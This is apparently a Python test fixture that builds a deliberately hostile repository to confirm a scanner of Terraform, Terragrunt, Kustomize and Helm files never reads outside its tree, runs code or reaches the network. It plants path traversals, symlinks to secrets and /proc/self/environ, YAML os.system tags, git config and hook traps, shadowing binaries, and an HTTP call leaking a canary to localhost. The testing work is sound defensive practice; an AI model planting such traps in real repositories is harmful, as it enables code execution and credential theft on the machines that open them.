"""A repository as a stranger would send it: whatever reads a file, runs a program or asks a network, it asks for."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

SECRET = "canary-that-sings"  # what stands outside of the tree, and in the environment

_TERRAFORM = """\
provider "aws" { region = "us-east-1" }
variable "leak" { default = "unset" }
locals {
  relative = file("../outside/secret.txt")
  absolute = file("OUTSIDE/secret.txt")
  linked   = file("${path.module}/linked.txt")
  template = templatefile("../outside/secret.txt", {})
  binary   = filebase64("OUTSIDE/secret.txt")
  digest   = filesha256("OUTSIDE/secret.txt")
  listed   = fileset("../outside", "*")
  home     = pathexpand("~/.aws/credentials")
  read     = yamldecode(file("OUTSIDE/secret.yaml"))
}
data "external" "run" { program = ["touch", "OUTSIDE/sprung"] }
data "http" "asked" { url = "http://127.0.0.1:9/stolen?${local.relative}" }
resource "aws_instance" "web" {
  instance_type = "m5.large"
  user_data     = local.absolute
  tags = {
    owner = local.relative, a = local.absolute, b = local.linked, c = local.template, d = local.binary
    e = join(",", local.listed), f = local.digest, g = file("/proc/self/environ"), h = local.home, i = var.leak
    j = local.read.key, k = data.external.run.result.x, l = data.http.asked.response_body
  }
  provisioner "local-exec" { command = "touch OUTSIDE/sprung" }
}
module "above" { source = "../outside/module" }
module "absolute" { source = "OUTSIDE/module" }
module "linked" { source = "./linked" }
module "listed" { source = "acme/listed/aws" }
module "fetched" { source = "git::https://127.0.0.1:9/x.git" }
module "archive" { source = "http://127.0.0.1:9/x.zip" }
"""
_TERRAGRUNT = """\
include "root" { path = find_in_parent_folders("secret.hcl") }
include "there" { path = "OUTSIDE/secret.hcl" }
locals {
  ran  = run_cmd("touch", "OUTSIDE/sprung")
  read = read_terragrunt_config("OUTSIDE/secret.hcl")
  env  = get_env("CANARY", "unset")
  file = file("OUTSIDE/secret.txt")
  sops = sops_decrypt_file("OUTSIDE/secret.yaml")
}
terraform { source = "../../outside/module" }
dependency "x" { config_path = "../../outside/module" }
inputs = { leak = local.file, env = local.env, ran = local.ran }
"""
_KUSTOMIZATION = """\
resources: [../../outside, "https://127.0.0.1:9/x.yaml", "github.com/acme/none//x?ref=v1", OUTSIDE/pod.yaml]
configMapGenerator: [{name: a, files: [../../outside/secret.txt, linked=../linked.txt], envs: [OUTSIDE/secret.txt]}]
generators: [generator.yaml]
transformers: [generator.yaml]
helmCharts: [{name: x, repo: "http://127.0.0.1:9", releaseName: y}]
openapi: {path: OUTSIDE/secret.yaml}
"""
_GENERATOR = """\
apiVersion: acme.io/v1
kind: Run
metadata: {name: x, annotations: {config.kubernetes.io/function: "exec: {path: ./run.sh}"}}
"""
_TEMPLATE = """\
apiVersion: v1
kind: Pod
metadata:
  name: web
  labels: {a: '{{ .Files.Get "../../outside/secret.txt" }}', b: '{{ getHostByName "localhost" }}'}
spec: {containers: [{name: web, image: 'x:{{ .Files.Get "linked.txt" }}'}]}
"""
_POD = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: a}]}\n"
_REACHING = """\
resources: [pod.yaml]
namePrefix: a-
generators: [generator.yaml]
configMapGenerator: [{name: a, files: [a=../linked.txt], envs: [OUTSIDE/secret.txt]}]
"""
_RENDERED = """\
apiVersion: v1
kind: Pod
metadata:
  name: web
  labels: {a: '{{ .Files.Get "../../outside/secret.txt" }}', b: '{{ getHostByName "localhost" }}'}
  annotations: {a: '{{ .Values | toJson }}', b: '{{ lookup "v1" "Secret" "" "" | toJson }}'}
spec: {containers: [{name: web, image: 'x:{{ .Files.Get "/etc/hostname" }}'}]}
"""
_TRAP = "#!/bin/sh\ntouch OUTSIDE/sprung\n"
_CODE = "open('OUTSIDE/sprung', 'w')\n"

FILES = {
    "main.tf": _TERRAFORM,
    "terraform.tfvars": 'leak = file("OUTSIDE/secret.txt")\n',
    ".terraform/modules/modules.json": json.dumps(
        {"Modules": [{"Key": "listed", "Source": "registry.terraform.io/acme/listed/aws", "Dir": "OUTSIDE/module"}]}
    ),
    "live/unit/terragrunt.hcl": _TERRAGRUNT,
    "kustomized/kustomization.yaml": _KUSTOMIZATION,
    "kustomized/generator.yaml": _GENERATOR,
    "kustomized/run.sh": _TRAP,
    "simple/kustomization.yaml": "resources: [pod.yaml]\nnamePrefix: a-\ngenerators: [generator.yaml]\n",
    "simple/generator.yaml": _GENERATOR,
    "simple/run.sh": _TRAP,
    "simple/pod.yaml": _POD,
    "reaching/kustomization.yaml": _REACHING,
    "reaching/pod.yaml": _POD,
    "plain/kustomization.yaml": "resources: [pod.yaml]\nnamePrefix: a-\n",
    "plain/pod.yaml": _POD,
    "rendered/Chart.yaml": "apiVersion: v2\nname: shop\nversion: 1.0.0\n",
    "rendered/values.yaml": "a: 1\n",
    "rendered/templates/pod.yaml": _RENDERED,
    "chart/Chart.yaml": "apiVersion: v2\nname: shop\nversion: 1.0.0\n",
    "chart/values.yaml": "a: 1\n",
    "chart/templates/pod.yaml": _TEMPLATE,
    "tagged.yaml": "a: !!python/object/apply:os.system ['touch OUTSIDE/sprung']\n",
    ".github/workflows/ci.yml": "on: pull_request\njobs: {a: {runs-on: x, steps: [{run: touch OUTSIDE/sprung}]}}\n",
    ".finops/exceptions/x.yaml": "id: ../../outside/secret\n",
    ".finops/answers.yaml": "answers: !!python/name:os.system {}\n",
    "finops-guard-usage.yaml": "version: 1\nresources: {}\n",
    # What Python, git and a shell would take, were they looked for where the scan runs.
    **dict.fromkeys(("sitecustomize.py", "usercustomize.py", "yaml.py", "click.py", "msgspec.py", "json.py"), _CODE),
    **dict.fromkeys(("git", "helm", "kubectl", "kustomize", "terraform", "sh"), _TRAP),
    ".gitattributes": "* filter=trap diff=trap merge=trap\n",
    ".envrc": _TRAP,
}
LINKS = {
    "linked.txt": "../outside/secret.txt",
    "linked": "../outside/module",
    "linked.tf": "../outside/module/main.tf",
    "linked.yaml": "OUTSIDE/pod.yaml",
    "chart/linked.txt": "../../outside/secret.txt",
    "everything": "/",
    "CODEOWNERS": "OUTSIDE/secret.txt",
    ".finops/baseline.json": "OUTSIDE/secret.yaml",
    ".finops/exceptions/y.yaml": "OUTSIDE/secret.yaml",
    "environment.tf": "/proc/self/environ",
    "loop": "loop",
}
OUTSIDE = {
    "secret.txt": SECRET,
    "secret.yaml": f"key: {SECRET}\n",
    "secret.hcl": f'inputs = {{ leak = "{SECRET}" }}\n',
    "pod.yaml": f"apiVersion: v1\nkind: Pod\nmetadata: {{name: {SECRET}}}\n",
    "module/main.tf": f'resource "aws_instance" "{SECRET}" {{\n  instance_type = "m5.24xlarge"\n}}\n',
}


class Hostile:
    """The repository in a directory, and what lies beside it and must not be reached."""

    def __init__(self, directory: Path) -> None:
        self.tree, self.outside = directory / "tree", directory / "outside"
        for path, text in OUTSIDE.items():
            _write(self.outside / path, text)
        for path, text in FILES.items():
            _write(self.tree / path, text.replace("OUTSIDE", str(self.outside))).chmod(0o755)
        for path, target in LINKS.items():
            link = self.tree / path
            link.parent.mkdir(parents=True, exist_ok=True)
            link.symlink_to(target.replace("OUTSIDE", str(self.outside)))
        self._git()

    def _git(self) -> None:
        trap = _write(self.tree / ".trap", _TRAP.replace("OUTSIDE", str(self.outside)))
        trap.chmod(0o755)
        who = ("-c", "user.name=a", "-c", "user.email=a@example.org")
        for words in (("init", "-q", "-b", "main"), (*who, "add", "-A"), (*who, "commit", "-q", "-m", "first")):
            subprocess.run(["git", *words], cwd=self.tree, check=True, capture_output=True)
        for key in ("core.fsmonitor", "core.pager", "core.sshCommand", "core.editor", "core.askPass", "diff.external",
                    "gpg.program", "filter.trap.smudge", "filter.trap.clean", "filter.trap.process",
                    "diff.trap.command", "diff.trap.textconv", "merge.trap.driver", "credential.helper",
                    "uploadpack.packObjectsHook", "alias.rev-parse", "alias.cat-file"):  # fmt: skip
            command = ["git", "config", key, f"!{trap}" if key.startswith("alias.") else str(trap)]
            subprocess.run(command, cwd=self.tree, check=True, capture_output=True)
        for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"):
            hook = self.tree / ".git/hooks" / name
            _write(hook, trap.read_text(encoding="utf-8")).chmod(0o755)
        with (self.tree / "main.tf").open("a", encoding="utf-8") as file:
            file.write('resource "aws_sqs_queue" "q" {}\n')

    @property
    def is_sprung(self) -> bool:
        """Whether anything was run."""
        return (self.outside / "sprung").exists()


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path
